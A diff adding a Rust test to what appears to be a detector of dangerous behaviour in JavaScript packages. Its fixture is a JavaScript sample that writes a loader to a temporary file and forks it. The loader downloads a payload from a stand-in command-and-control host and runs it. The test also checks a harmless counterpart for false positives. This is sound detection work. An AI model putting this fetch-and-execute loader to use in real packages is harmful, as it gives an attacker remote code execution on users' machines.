@@ -1553,3 +1553,36 @@ fn deleting_the_project_the_program_runs_in() {
     let clean = "const { exec } = require('child_process');\nfunction clean() {\n  exec(`rm -rf \"${process.cwd()}/dist\"`);\n}\nmodule.exports = clean;\n";
     assert!(!has(clean, K::Destruction), "{:?}", facts(clean));
 }
+
+#[test]
+fn constant_code_written_to_a_file_then_forked_is_read_as_code() {
+    // Lines of an agent joined into a temporary file, which fork() then runs: what the
+    // text does is what the package runs.
+    let src = r#"
+const fs = require('fs'), os = require('os'), path = require('path');
+const { fork } = require('child_process');
+const lines = [
+  "const https = require('https'), cp = require('child_process');",
+  "https.get('https://c2.example.invalid/task', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => cp.execSync(b)); });",
+];
+const target = path.join(os.tmpdir(), 'helper-' + Date.now() + '.js');
+fs.writeFileSync(target, lines.join('\n'));
+fork(target, [], { stdio: 'ignore' });
+"#;
+    let f = facts(src);
+    assert!(
+        f.iter().any(|(k, _, d)| *k == K::DownloadExecute
+            && d.contains("in the code written to")),
+        "{f:?}"
+    );
+    // A written file that is not what runs, and a constant file that is only run, stay as
+    // they were: no code read from the data.
+    let quiet = r#"
+const fs = require('fs'), cp = require('child_process');
+fs.writeFileSync('/tmp/report.json', JSON.stringify({ url: 'https://example.invalid' }) + '                ');
+fs.writeFileSync('/tmp/notes.txt', "require('https').get('https://example.invalid/x')");
+cp.fork('/tmp/worker.js');
+"#;
+    let q = facts(quiet);
+    assert!(!q.iter().any(|(_, _, d)| d.contains("in the code written to")), "{q:?}");
+}
